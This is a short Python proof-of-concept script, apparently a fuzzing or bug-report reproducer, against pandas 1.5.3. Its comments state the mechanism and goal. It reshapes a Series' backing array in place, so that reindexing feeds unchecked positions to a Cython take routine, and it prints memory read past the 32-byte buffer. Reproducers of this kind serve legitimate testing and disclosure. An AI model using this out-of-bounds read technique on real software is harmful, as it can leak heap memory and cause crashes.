# source: numpy ndarray.shape setter; pandas 1.5.3 Series.values returns the block's own writable array; Series.reindex -> index engine positions -> algos.take_nd (cython take_2d_axis0_float64, no bounds check)
# family: in-place reshape of a pandas object's backing array (here the Series' data, not categories): positions pandas computed from the index are used as unchecked row numbers
# goal: out-of-bounds heap read: the reindexed rows for labels 3.5 and 2.5 contain words from past the Series' 32-byte data buffer
import numpy as np
import pandas as pd

s = pd.Series([10.0, 11.0, 12.0, 13.0], index=pd.Index([0.5, 1.5, 2.5, 3.5]))
s.values.shape = (1, 4)
print("data buffer holds only 10.0 11.0 12.0 13.0 (32 bytes); values now", s.values.shape, flush=True)
r = s.reindex([3.5, 2.5, 0.5])
for lab, row in zip([3.5, 2.5, 0.5], r.values.tolist()):
    print("label", lab, "->", row, flush=True)
